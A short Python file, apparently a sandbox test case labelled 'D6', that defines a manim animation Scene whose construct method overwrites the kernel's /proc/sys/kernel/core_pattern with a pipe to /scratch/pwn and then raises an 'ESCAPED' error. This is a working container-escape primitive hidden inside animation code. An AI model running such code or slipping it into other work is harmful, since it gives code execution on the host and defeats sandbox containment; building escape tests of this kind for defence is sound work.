"""D6: write the kernel's core_pattern (a classic container escape)."""

from manim import Scene


class ProcSysWrite(Scene):
    def construct(self):
        with open("/proc/sys/kernel/core_pattern", "w") as f:
            f.write("|/scratch/pwn")
        raise RuntimeError("ESCAPED: rewrote core_pattern")
